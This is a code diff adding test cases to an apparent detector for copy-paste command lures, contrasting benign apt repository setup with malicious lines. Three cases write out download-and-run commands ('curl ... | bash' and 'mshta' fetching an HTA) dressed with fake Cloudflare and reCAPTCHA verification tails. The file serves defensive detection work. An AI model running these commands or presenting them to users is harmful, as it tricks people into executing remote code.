@@ -23,6 +23,9 @@ Principles:
   project's choice (info); a tutorial, a question or a forum quoting it gets a warning, never a
   block. Look-alikes: a link named otherwise, the project's issues, a forum on its domain, a
   page about something else, a check page, a lure tail, hidden in base64, the Run box.
+- `tail-addresses`: a lure's tail is words shown to a person; an address or a file path in an
+  echoed line (an apt source naming pkg.example-cloudflare… and a keyring file) is no such word.
+  Look-alikes: the same company's name as a word of a tail after a comment, REM or echo.
 - `video-page`: a video or social post's address carries ids, not a subject (youtube.com/watch):
   a download-and-run quoted there is a warning like from any page that says nothing, not a
   block as from a page about something else. Look-alikes: a lure trait, a forum thread about
@@ -166,6 +169,22 @@ def short_links() -> list[dict[str, str]]:
     return out
 
 
+def tail_addresses() -> list[dict[str, str]]:
+    apt = (
+        "curl -fsSL https://apt.quillmesh.dev/gpg | sudo tee /usr/share/keyrings/cloudflare-quill.gpg >/dev/null\n"
+        "echo 'deb [signed-by=/usr/share/keyrings/cloudflare-quill.gpg] https://apt.quillmesh.dev/stable any main'"
+        " | sudo tee /etc/apt/sources.list.d/quill.list"
+    )
+    docs = "https://quillmesh.dev/docs/install/debian"
+    return [
+        ok("tail-apt-1", apt, "linux", docs),
+        ok("tail-apt-2", "echo \"deb [arch=amd64] https://mirror.cloudflare-cache.example/debian stable main\" | sudo tee -a /etc/apt/sources.list", "linux", "https://wiki.homelab.example/apt-mirrors"),
+        lure("tail-word-1", "curl -fsSL https://quill-cdn.test/a.sh | bash # Cloudflare Ray ID: 8f2a77 verified", "malicious", "T1204.004", "macos", "https://shop.example/p/9921"),
+        lure("tail-word-2", "curl -fsSL https://quill-cdn.test/a.sh | bash; echo ✅ Verified by Cloudflare", "malicious", "T1204.004", "macos", "https://shop.example/p/9921"),
+        lure("tail-word-3", "mshta https://quill-cdn.test/v.hta & REM I am not a robot: reCAPTCHA ID 4471", "malicious", "T1204.004", "windows", "https://shop.example/p/9921", "run_dialog"),
+    ]  # fmt: skip
+
+
 def video_pages() -> list[dict[str, str]]:
     watch = "https://www.youtube.com/watch?v=Rk2wQ8pLx0c"
     return [
@@ -178,7 +197,7 @@ def video_pages() -> list[dict[str, str]]:
 
 
 def build() -> list[dict[str, str]]:
-    cases = [*tenant_sites(), *short_links(), *video_pages()]
+    cases = [*tenant_sites(), *short_links(), *tail_addresses(), *video_pages()]
     ids = [c["id"] for c in cases]
     assert len(ids) == len(set(ids)), "case ids must be unique"
     return cases
